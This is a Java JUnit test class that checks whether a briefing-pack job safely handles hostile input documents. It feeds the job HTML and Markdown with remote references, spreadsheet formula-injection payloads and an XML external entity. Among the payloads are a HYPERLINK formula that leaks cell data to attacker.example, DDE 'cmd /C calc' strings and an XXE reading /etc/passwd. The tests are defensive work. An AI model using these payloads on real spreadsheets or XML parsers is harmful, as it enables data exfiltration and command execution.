package org.briefingpack.job;

import static org.assertj.core.api.Assertions.assertThat;

import com.sun.net.httpserver.HttpServer;
import java.io.IOException;
import java.io.InputStream;
import java.io.StringReader;
import java.net.InetAddress;
import java.net.InetSocketAddress;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.List;
import java.util.concurrent.CopyOnWriteArrayList;
import org.apache.poi.ss.usermodel.Cell;
import org.apache.poi.ss.usermodel.CellType;
import org.apache.poi.ss.usermodel.Row;
import org.apache.poi.ss.usermodel.Sheet;
import org.apache.poi.xssf.usermodel.XSSFWorkbook;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.TestInstance;
import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.boot.test.context.SpringBootTest;
import org.springframework.test.context.DynamicPropertyRegistry;
import org.springframework.test.context.DynamicPropertySource;
import org.xhtmlrenderer.resource.XMLResource;
import org.xml.sax.InputSource;

/**
 * Documents written to do harm: HTML and Markdown that reference a local server in every way a
 * browser would load something (the server counts requests: none may arrive, while reading or while
 * rendering the PDF), spreadsheet formula payloads that must stay literal text in commitments.xlsx
 * and the chart CSVs, and an XML external entity that must never be resolved.
 */
@SpringBootTest(
        properties = {
            "briefing.runner.enabled=false",
            "briefing.links.fetch=false",
            "spring.datasource.url=jdbc:h2:mem:hostile-${random.uuid};DB_CLOSE_DELAY=-1"
        })
@TestInstance(TestInstance.Lifecycle.PER_CLASS)
class BriefingPackJobHostileContentTest {

    private static final JobTestFolders folders = new JobTestFolders(BriefingPackJobHostileContentTest.class);
    private static final List<String> PAYLOADS = List.of(
            "=HYPERLINK(\"http://attacker.example/leak?d=\"&A1,\"Click for details\")",
            "+cmd|' /C calc'!A0",
            "@SUM(1+1)*cmd|' /C calc'!A0",
            "-2+3+cmd|' /C calc'!A0");

    private final List<String> requests = new CopyOnWriteArrayList<>();
    private HttpServer server;
    private RunResult result;

    @Autowired
    BriefingPackLauncher launcher;

    @DynamicPropertySource
    static void folders(DynamicPropertyRegistry registry) {
        folders.register(registry);
    }

    @BeforeAll
    void runTheJobOnHostileDocuments() throws IOException {
        server = HttpServer.create(new InetSocketAddress(InetAddress.getLoopbackAddress(), 0), 0);
        server.createContext("/", exchange -> {
            requests.add(exchange.getRequestMethod() + " " + exchange.getRequestURI());
            byte[] body = "<html><head><title>fetched</title></head></html>".getBytes(StandardCharsets.UTF_8);
            exchange.sendResponseHeaders(200, body.length);
            exchange.getResponseBody().write(body);
            exchange.close();
        });
        server.start();
        String base = "http://" + server.getAddress().getAddress().getHostAddress() + ":"
                + server.getAddress().getPort();

        folders.write("remote-references.html", remoteReferencesHtml(base).getBytes(StandardCharsets.UTF_8));
        folders.write(
                "remote-references.md",
                ("# Cairo Trade Summit 2024\n\n![chart](" + base + "/md-image.png)\n\n"
                                + "<img src=\"" + base
                                + "/md-raw-image.png\">\n\nThe Cairo Trade Summit took place on 2 April 2024."
                                + " Egypt pledged $20 million to port upgrades. See [the report](" + base
                                + "/md-link).\n")
                        .getBytes(StandardCharsets.UTF_8));
        StringBuilder formulas =
                new StringBuilder("Formula Summit 2024\n\nThe Formula Summit took place on 9 May 2024.\n\n");
        String[] actors = {"The Fund", "The Bank", "Norway", "Canada"};
        for (int i = 0; i < PAYLOADS.size(); i++) {
            formulas.append(PAYLOADS.get(i))
                    .append("\n\n")
                    .append(actors[i])
                    .append(" pledged $")
                    .append(i + 2)
                    .append(" million to ")
                    .append(PAYLOADS.get(i))
                    .append(".\n\n");
        }
        folders.write("formula-injection.txt", formulas.toString().getBytes(StandardCharsets.UTF_8));
        folders.write(
                "xxe.txt",
                ("<?xml version=\"1.0\"?>\n<!DOCTYPE briefing [<!ENTITY xxe SYSTEM \"" + base
                                + "/xxe\"><!ENTITY local SYSTEM \"file:///etc/passwd\">]>\n\nEntity Summit 2024\n\n"
                                + "The Entity Summit took place on 3 June 2024. The Council pledged $4 million to &xxe; and &local; research.\n")
                        .getBytes(StandardCharsets.UTF_8));

        result = launcher.launch(null);
    }

    @AfterAll
    void stopServer() {
        server.stop(0);
    }

    @Test
    void hostileDocuments_arePackedWithoutASingleRequestToTheServersTheyName() {
        assertThat(result.exitCode()).as(String.valueOf(result.message())).isEqualTo(ExitCodes.OK);
        assertThat(result.packed()).isEqualTo(4);
        assertThat(requests)
                .as("requests the local server received while reading and rendering")
                .isEmpty();
        for (String folder : List.of("remote-references", "remote-references-md", "formula-injection", "xxe")) {
            assertThat(RunOutputs.pdfText(result.runDir().resolve(folder).resolve("briefing.pdf")))
                    .isNotBlank();
        }
    }

    @Test
    void hostileHtml_keepsItsTextAndDropsEveryRemoteReferenceFromThePack() throws IOException {
        Path pack = result.runDir().resolve("remote-references");
        assertThat(RunOutputs.facts(pack).figures())
                .anySatisfy(f -> assertThat(f.text()).isEqualTo("$15 million"));
        String html = Files.readString(pack.resolve("briefing.html"));
        for (String reference : List.of(
                "/img.png",
                "/script.js",
                "/style.css",
                "/frame",
                "/css-background.png",
                "/imported.css",
                "/inline-style.png",
                "/object",
                "/poster.png")) {
            assertThat(html).as("the HTML briefing never loads " + reference).doesNotContain(reference);
        }
    }

    @Test
    void formulaPayloads_stayLiteralTextInTheWorkbook() throws IOException {
        List<String> payloadCells = new ArrayList<>();
        try (InputStream in = Files.newInputStream(result.runDir().resolve("commitments.xlsx"));
                XSSFWorkbook workbook = new XSSFWorkbook(in)) {
            for (Sheet sheet : workbook) {
                for (Row row : sheet) {
                    for (Cell cell : row) {
                        assertThat(cell.getCellType())
                                .as(sheet.getSheetName() + "!" + cell.getAddress() + " is no formula")
                                .isNotEqualTo(CellType.FORMULA);
                        if (cell.getCellType() != CellType.STRING) {
                            continue;
                        }
                        String text = cell.getStringCellValue();
                        if (PAYLOADS.stream().anyMatch(text::contains)) {
                            payloadCells.add(text);
                        }
                        if (!text.isEmpty()
                                && "=+-@".indexOf(text.stripLeading().charAt(0)) >= 0) {
                            assertThat(cell.getCellStyle().getQuotePrefixed())
                                    .as(sheet.getSheetName() + "!" + cell.getAddress() + " '" + text
                                            + "' is quote-prefixed")
                                    .isTrue();
                        }
                    }
                }
            }
        }
        assertThat(payloadCells)
                .as("the payloads reached the workbook, as text")
                .isNotEmpty();
        assertThat(String.join("\n", payloadCells)).contains(PAYLOADS.get(0), PAYLOADS.get(1));
    }

    @Test
    void formulaPayloads_areDefusedInTheChartCsvs() throws IOException {
        List<Path> csvs;
        try (var walk = Files.walk(result.runDir())) {
            csvs = walk.filter(p -> p.toString().endsWith(".csv")).toList();
        }
        assertThat(csvs).isNotEmpty();
        boolean sawPayload = false;
        for (Path csv : csvs) {
            for (String line : Files.readAllLines(csv, StandardCharsets.UTF_8)) {
                for (String field : csvFields(line)) {
                    sawPayload |= PAYLOADS.stream().anyMatch(field::contains);
                    assertThat(field.isEmpty()
                                    || "=+@".indexOf(field.charAt(0)) < 0
                                            && !(field.charAt(0) == '-'
                                                    && field.length() > 1
                                                    && !Character.isDigit(field.charAt(1))))
                            .as(csv.getFileName() + ": " + field)
                            .isTrue();
                }
            }
        }
        assertThat(sawPayload).as("a payload reached a chart CSV, defused").isTrue();
    }

    @Test
    void xmlExternalEntities_areNeverResolved() throws IOException {
        Path pack = result.runDir().resolve("xxe");
        String facts = Files.readString(pack.resolve("facts.json"));
        assertThat(facts).contains("&xxe;").doesNotContain("root:x:0:0");
        assertThat(Files.readString(pack.resolve("briefing.html"))).doesNotContain("root:x:0:0");
        assertThat(requests).isEmpty();
    }

    /**
     * The one XML parser on the rendering path is Flying Saucer's, reading the XHTML the template
     * produced (document text in it is escaped by Thymeleaf). Even handed a DOCTYPE with external
     * entities directly, it must not fetch them.
     */
    @Test
    void pdfRenderersXmlParser_doesNotFetchExternalEntities() {
        String base = "http://" + server.getAddress().getAddress().getHostAddress() + ":"
                + server.getAddress().getPort();
        String xhtml = "<?xml version=\"1.0\"?><!DOCTYPE html [<!ENTITY xxe SYSTEM \"" + base + "/parser-xxe\">]>"
                + "<html xmlns=\"http://www.w3.org/1999/xhtml\"><body><p>&xxe;</p></body></html>";
        try {
            XMLResource.load(new InputSource(new StringReader(xhtml))).getDocument();
        } catch (RuntimeException refused) {
            // refusing the document outright is as good as not resolving the entity
        }
        assertThat(requests).as("requests made by the XML parser").isEmpty();
    }

    private static String remoteReferencesHtml(String base) {
        return """
                <!DOCTYPE html><html><head><title>Accra Health Summit 2024</title>
                <link rel="stylesheet" href="BASE/style.css">
                <script src="BASE/script.js"></script>
                <style>body { background: url(BASE/css-background.png); } @import url("BASE/imported.css");</style>
                <meta http-equiv="refresh" content="0; url=BASE/refresh">
                </head><body>
                <h1>Accra Health Summit 2024</h1>
                <img src="BASE/img.png" srcset="BASE/img-2x.png 2x">
                <iframe src="BASE/frame"></iframe>
                <object data="BASE/object"></object>
                <video poster="BASE/poster.png"></video>
                <div style="background-image: url('BASE/inline-style.png')">
                <p>The Accra Health Summit took place on 21 March 2024. Ghana pledged $15 million to rural clinics.</p>
                <p>Read <a href="BASE/anchor">the communiqué</a>.</p>
                </div></body></html>
                """.replace("BASE", base);
    }

    /** The fields of one RFC 4180 line (quotes removed). */
    private static List<String> csvFields(String line) {
        List<String> fields = new ArrayList<>();
        StringBuilder field = new StringBuilder();
        boolean quoted = false;
        for (int i = 0; i < line.length(); i++) {
            char c = line.charAt(i);
            if (quoted) {
                if (c == '"' && i + 1 < line.length() && line.charAt(i + 1) == '"') {
                    field.append('"');
                    i++;
                } else if (c == '"') {
                    quoted = false;
                } else {
                    field.append(c);
                }
            } else if (c == '"') {
                quoted = true;
            } else if (c == ',') {
                fields.add(field.toString());
                field.setLength(0);
            } else {
                field.append(c);
            }
        }
        fields.add(field.toString());
        return fields;
    }
}
